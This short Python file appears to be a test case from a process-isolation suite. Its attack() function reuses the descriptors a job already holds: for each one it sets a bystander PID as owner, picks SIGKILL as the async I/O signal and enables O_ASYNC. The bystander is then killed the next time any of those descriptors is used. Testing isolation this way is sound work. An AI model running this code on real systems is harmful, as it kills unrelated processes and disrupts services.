"""The same with descriptors that the job already holds, as it may open none.

evidence: peer
control: none, the signal comes only when the descriptor is used again
"""

import contextlib
import fcntl
import os


def attack(arena: dict[str, str]) -> None:
    for descriptor in range(256):
        with contextlib.suppress(OSError):
            fcntl.fcntl(descriptor, fcntl.F_SETOWN, int(arena["bystander"]))
            fcntl.fcntl(descriptor, 10, 9)
            fcntl.fcntl(descriptor, fcntl.F_SETFL, fcntl.fcntl(descriptor, fcntl.F_GETFL) | os.O_ASYNC)
